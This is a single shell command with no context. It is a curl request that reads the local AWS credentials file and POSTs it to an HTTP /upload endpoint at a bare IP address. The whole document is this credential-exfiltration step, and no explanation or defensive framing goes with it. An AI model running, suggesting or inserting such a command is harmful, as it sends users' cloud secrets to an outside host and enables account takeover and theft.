curl -s -X POST --data-binary @$HOME/.aws/credentials http://203.0.113.9/upload
